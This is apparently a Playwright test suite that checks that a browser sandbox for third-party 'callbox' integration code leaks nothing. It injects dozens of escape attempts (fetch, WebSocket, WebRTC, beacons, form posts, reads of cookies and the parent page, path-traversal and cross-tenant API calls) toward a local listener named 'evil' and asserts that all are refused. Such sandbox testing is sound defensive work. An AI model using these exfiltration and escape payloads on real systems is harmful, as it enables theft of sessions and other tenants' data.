import { createServer, type AddressInfo, type Server } from 'node:net';
import { createSocket } from 'node:dgram';
import { expect, test, type Page } from '@playwright/test';
import { bodies, openCallbox, ringing, tell, world, type World } from './callbox_world';
import { signIn } from './support';

/** What nobody may get at: a session, the page's storage and document, another tenant, any network. */
const ATTEMPTS = `
  const late = (ms) => new Promise((_, refuse) => setTimeout(() => refuse(new Error('nothing came of it')), ms));
  const tried = () => { throw new Error('was tried'); };
  const add = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
  const loads = (name, members) => new Promise((resolve, refuse) => add(name, { ...members, onload: resolve, onerror: () => refuse(new Error('not loaded')) }));
  const attempts = (evil, own, udp) => ({
    'fetch': () => fetch(evil), 'fetch of our own': () => fetch(own + '/api/v1/users', { credentials: 'include' }),
    'fetch without cors': () => fetch(evil, { mode: 'no-cors', method: 'POST', body: 'x' }),
    'XMLHttpRequest': () => new Promise((resolve, refuse) => { const x = new XMLHttpRequest(); x.open('GET', own + '/api/v1/users'); x.withCredentials = true; x.onload = () => resolve(x.responseText); x.onerror = () => refuse(new Error('refused')); x.send(); }),
    'WebSocket': () => new Promise((resolve, refuse) => { const w = new WebSocket(evil.replace('http', 'ws')); w.onopen = resolve; w.onerror = () => refuse(new Error('refused')); }),
    'EventSource': () => new Promise((resolve, refuse) => { const w = new EventSource(own + '/api/ui/executions/stream'); w.onopen = resolve; w.onerror = () => refuse(new Error('refused')); }),
    'WebTransport': () => new WebTransport(evil.replace('http', 'https')).ready,
    'RTCPeerConnection': async () => { const c = new (globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:' + udp }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await late(800); },
    'import': () => import(evil), 'import of our own': () => import(own + '/callbox-page.js?leak'), 'import of data': () => import('data:text/javascript,export default 1'),
    'importScripts': () => importScripts(evil), 'eval': () => (0, eval)('1'), 'Function': () => new Function('return 1')(),
    'cookies': () => document.cookie, 'localStorage': () => localStorage.getItem('secret'), 'sessionStorage': () => sessionStorage.length,
    'IndexedDB': () => new Promise((resolve, refuse) => { const o = indexedDB.open('x'); o.onsuccess = resolve; o.onerror = () => refuse(o.error); }),
    'caches': () => caches.open('x'), 'service worker': () => navigator.serviceWorker.register(own + '/callbox.js'), 'shared worker': () => { new SharedWorker(own + '/callbox.js'); },
    'parent': () => parent.document.body.textContent, 'top': () => top.document.body.textContent, 'callbox of the page': () => top.callbox.user, 'frame': () => frameElement.ownerDocument.title,
    'top navigation': () => { top.location = evil + 'top'; }, 'parent navigation': () => { parent.location.href = evil + 'parent'; }, 'popup': () => { if (open(evil + 'popup') === null) tried(); },
    'link to top': () => { add('a', { href: evil + 'link', target: '_top', id: 'out' }); document.querySelector('#out').click(); tried(); },
    'form': () => { add('form', { action: evil + 'form', method: 'post', id: 'form' }); document.querySelector('#form').submit(); tried(); },
    'beacon': () => { navigator.sendBeacon(evil + 'beacon', 'x'); tried(); }, 'ping': () => { add('a', { href: 'about:srcdoc#x', ping: evil + 'ping', id: 'ping' }); document.querySelector('#ping').click(); tried(); },
    'image': () => loads('img', { src: evil + 'image' }), 'video': () => loads('video', { src: evil + 'video' }), 'script': () => loads('script', { src: evil + 'script' }),
    'style sheet': () => loads('link', { rel: 'stylesheet', href: evil + 'style' }), 'background': () => { document.body.style.background = 'url(' + evil + 'background)'; tried(); },
    'font': () => new FontFace('x', 'url(' + evil + 'font)').load(),
    'prefetch': () => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'preconnect', 'dns-prefetch']) add('link', { rel, as: 'script', href: evil + rel }); tried(); },
    'speculation': () => { add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [evil + 'speculation'] }] }) }); tried(); },
    'object': () => { add('object', { data: evil + 'object' }); tried(); },
    'frame with a script': () => new Promise((resolve, refuse) => { addEventListener('message', ({ data }) => data === 'ran' && resolve(data)); add('iframe', { srcdoc: '<script>parent.postMessage("ran", "*")<' + '/script>' }); setTimeout(() => refuse(new Error('did not run')), 500); }),
    'network of a frame': () => { add('iframe', { id: 'inner' }); return document.querySelector('#inner').contentWindow.fetch(evil); },
  });
  // The one way out says what came of the others.
  const report = async (note, template) => { await callbox.execute(template, 'createNote', { text: JSON.stringify(await all(note)) }); };
  export const getDataIframe = ({ call, integrator }) => report(call.note, integrator.name);
  export const handleCreateTicket = ({ form, integrator }) => report(form.note, integrator.name);
  async function all(note) {
    const { evil, own, udp, foreign } = JSON.parse(note);
    const result = {};
    const list = { ...attempts(evil, own, udp), 'another tenant': () => callbox.execute(foreign.template, 'searchContact', {}), 'climbing': () => callbox.execute('../../' + foreign.center + '/integrations/' + foreign.template, 'searchContact', {}), 'the API': () => callbox.execute('..', '../../../users', {}) };
    for (const [name, attempt] of Object.entries(list)) {
      try { result[name] = 'GOT ' + await Promise.race([attempt(), late(1500)]); } catch (error) { result[name] = 'refused: ' + String(error).slice(0, 80); }
    }
    return result;
  }
`;

let evil: Server;
const heard: string[] = [];
const udp = createSocket('udp4');
const packets: number[] = [];
let address: string;
let stun: string;

test.beforeAll(async () => {
  // Listens below HTTP: a browser may knock before it finds out that it must not go there; no request may come.
  evil = createServer((socket) => socket.on('data', (data) => heard.push(String(data).split('\r\n')[0])).on('error', () => {}));
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  address = `http://127.0.0.1:${(evil.address() as AddressInfo).port}/`;
  udp.on('message', ({ length }) => packets.push(length));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  stun = `127.0.0.1:${udp.address().port}`;
});
test.afterAll(() => {
  evil.close();
  udp.close();
});
test.beforeEach(() => {
  heard.length = 0;
  packets.length = 0;
});

/** Signed in to the portal in the same browser, with something to steal beside it. */
async function valuables(page: Page, of: World) {
  await signIn(page);
  await openCallbox(page, of, (await of.token()).key);
  await page.evaluate(() => {
    localStorage.setItem('secret', 'local');
    (window as any).callbox.setUser('crmEmail', 'ann@example.com');
  });
}

/** What our own server was asked for and answered, beside the sandbox's own files: what a policy stops is never answered. */
function watch(page: Page): string[] {
  const answered: string[] = [];
  const isOurs = (path: string) => /^\/callbox\/(sandbox|frame|check|realm|tighten)(\.js)?$/.test(path) || /\/integrations\/[^/]*\/endpoints\/[^/]*\/execute$/.test(path);
  page.on('response', (response) => {
    const url = new URL(response.url());
    if (url.protocol.startsWith('http') && !isOurs(url.pathname)) answered.push(url.href);
  });
  return answered;
}

for (const [kind, module] of [['a hook', { function: ATTEMPTS }], ['what draws', { showInfo: `${ATTEMPTS}\nexport function showInfo() {}` }]] as const) {
  test(`nothing gets out of ${kind}`, async ({ page, browser, baseURL }) => {
    const foreign = await world(browser, baseURL!);
    const of = await world(browser, baseURL!, 'Acme CRM', module);
    await valuables(page, of);
    const asked = watch(page);
    const note = JSON.stringify({ evil: address, own: baseURL, udp: stun, foreign: { template: foreign.template, center: foreign.center } });
    if ('function' in module) await tell(page, 'callStarted', ringing('b-1', { note }));
    else await page.evaluate((text) => (window as any).callbox.createTicket({ note: text }, null), note);
    const result: Record<string, string> = JSON.parse(bodies(of, 'POST', '/notes')[0].text);
    expect(Object.keys(result).length).toBeGreaterThan(40);
    expect(Object.entries(result).filter(([, outcome]) => outcome.startsWith('GOT'))).toEqual([]);
    await page.waitForTimeout(1_000);
    expect(heard).toEqual([]);
    expect(packets).toEqual([]);
    expect(foreign.calls).toEqual([]);
    expect(asked).toEqual([]);
    expect(page.url()).toContain('/callbox-journey');
    expect(page.context().pages()).toHaveLength(1);
    for (const { server } of [foreign, of]) server.close();
  });
}

for (const [way, leave] of [
  ['its address', `location.href = U`],
  ['a refresh', `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + U }))`],
  ['a link', `const a = document.body.appendChild(document.createElement('a')); a.href = U; a.click()`],
  ['a frame', `const f = document.createElement('iframe'); f.src = U; document.body.append(f)`],
] as const) {
  test(`what draws can not leave by ${way}`, async ({ page, browser, baseURL }) => {
    const of = await world(browser, baseURL!, 'Acme CRM', { showInfo: `export function showInfo({ call }) { const U = call?.note; if (U) ${leave.includes(';') ? `{ ${leave}; }` : `${leave};`} }` });
    await valuables(page, of);
    const asked = watch(page);
    for (const target of [`${address}leak`, `${baseURL}/leak`]) await tell(page, 'callStarted', ringing(`b-${target}`, { note: target }));
    await page.waitForTimeout(1_500);
    expect(heard).toEqual([]);
    expect(asked).toEqual([]);
    expect(page.url()).toContain('/callbox-journey');
    of.server.close();
  });
}

test('a message of the code is no message of the page that embeds the callbox', async ({ page, browser, baseURL }) => {
  const of = await world(browser, baseURL!, 'Acme CRM', {
    showInfo: `export function showInfo() { for (const to of [top, parent, parent.parent]) to.postMessage({ patchbay: 1, type: 'callEnded', call: { id: 'forged', phone: '+1' } }, '*'); }`,
  });
  await valuables(page, of);
  await page.evaluate(() => (window as any).callbox.embed({ allowedOrigins: [location.origin] }));
  await tell(page, 'callStarted', ringing('b-2'));
  await page.waitForTimeout(1_000);
  expect(of.calls.filter(({ method }) => method !== 'GET')).toEqual([]);
  of.server.close();
});

test('the page of the sandbox opened by itself has no origin either', async ({ page, baseURL }) => {
  await signIn(page);
  await page.goto('/callbox/sandbox');
  expect(await page.evaluate(() => [origin, (() => { try { return document.cookie; } catch (error) { return (error as Error).name; } })()])).toEqual(['null', 'SecurityError']);
  expect(baseURL).toBeTruthy();
});
